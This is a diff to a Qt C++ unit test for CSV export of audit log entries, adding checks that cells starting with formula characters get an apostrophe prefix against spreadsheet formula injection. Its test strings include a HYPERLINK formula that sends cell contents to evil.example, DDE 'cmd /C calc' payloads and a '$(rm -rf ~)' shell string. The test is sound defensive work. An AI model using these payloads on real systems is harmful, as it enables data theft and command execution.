@@ -80,7 +80,21 @@ private Q_SLOTS:
         QTest::addRow("crlf") << QStringLiteral("one\r\ntwo") << QStringLiteral("\"one\r\ntwo\"");
         QTest::addRow("only a quote") << QStringLiteral("\"") << QStringLiteral("\"\"\"\"");
         QTest::addRow("shell") << QStringLiteral("$(rm -rf ~) `id`") << QStringLiteral("$(rm -rf ~) `id`");
-        QTest::addRow("leading dash") << QStringLiteral("--force") << QStringLiteral("--force");
+        // Formula starts (OWASP CSV injection): an apostrophe first, quoting still as RFC 4180 says.
+        QTest::addRow("leading dash") << QStringLiteral("--force") << QStringLiteral("'--force");
+        QTest::addRow("equals formula")
+            << QStringLiteral("=HYPERLINK(\"http://evil.example\";\"db1\")")
+            << QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example\"\";\"\"db1\"\")\"");
+        QTest::addRow("dde with comma")
+            << QStringLiteral("=cmd|' /C calc'!A0,x") << QStringLiteral("\"'=cmd|' /C calc'!A0,x\"");
+        QTest::addRow("plus") << QStringLiteral("+1+2") << QStringLiteral("'+1+2");
+        QTest::addRow("minus") << QStringLiteral("-2+3") << QStringLiteral("'-2+3");
+        QTest::addRow("at") << QStringLiteral("@SUM(A1:A9)") << QStringLiteral("'@SUM(A1:A9)");
+        QTest::addRow("tab") << QStringLiteral("\t=1+1") << QStringLiteral("'\t=1+1");
+        QTest::addRow("carriage return") << QStringLiteral("\r=1+1") << QStringLiteral("\"'\r=1+1\"");
+        QTest::addRow("formula inside kept") << QStringLiteral("db1 =1+1") << QStringLiteral("db1 =1+1");
+        QTest::addRow("leading space kept") << QStringLiteral(" =1+1") << QStringLiteral(" =1+1");
+        QTest::addRow("apostrophe kept") << QStringLiteral("'quoted") << QStringLiteral("'quoted");
         QTest::addRow("spaces kept") << QStringLiteral("  x  ") << QStringLiteral("  x  ");
         QTest::addRow("unicode") << QStringLiteral("Müller, 東京") << QStringLiteral("\"Müller, 東京\"");
     }
@@ -96,8 +110,10 @@ private Q_SLOTS:
         QList<AuditEntry> entries;
         const QStringList objects { QStringLiteral("web, \"main\""), QStringLiteral("line one\nline two"),
             QStringLiteral("cr\ronly"), QStringLiteral("crlf\r\nend"), QStringLiteral("-- $(id) ; `x`"),
-            QStringLiteral(""), QStringLiteral("\"\""), QStringLiteral("Müller & Söhne 😀"),
-            QString::fromUtf8(QByteArray("bad \xff\xfe bytes")) };
+            QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1, \"web\")"),
+            QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
+            QStringLiteral("\t-1"), QStringLiteral("\r\n=1"), QStringLiteral(""), QStringLiteral("\"\""),
+            QStringLiteral("Müller & Söhne 😀"), QString::fromUtf8(QByteArray("bad \xff\xfe bytes")) };
         qint64 id = 0;
         for (const QString &object : objects) {
             AuditEntry e;
@@ -126,7 +142,10 @@ private Q_SLOTS:
             QCOMPARE(row.at(0), QString::number(entries.at(i).id));
             QCOMPARE(QDateTime::fromString(row.at(1), Qt::ISODateWithMs), entries.at(i).at);
             QCOMPARE(row.at(2), entries.at(i).actor);
-            QCOMPARE(row.at(4), entries.at(i).object);
+            // What a formula start gets: one apostrophe, nothing else changed.
+            const QString object = entries.at(i).object;
+            const bool formula = !object.isEmpty() && QStringLiteral("=+-@\t\r").contains(object.front());
+            QCOMPARE(row.at(4), formula ? QLatin1Char('\'') + object : object);
             QCOMPARE(row.at(6), QString::number(entries.at(i).clientId));
             QCOMPARE(row.at(7), entries.at(i).hash);
         }
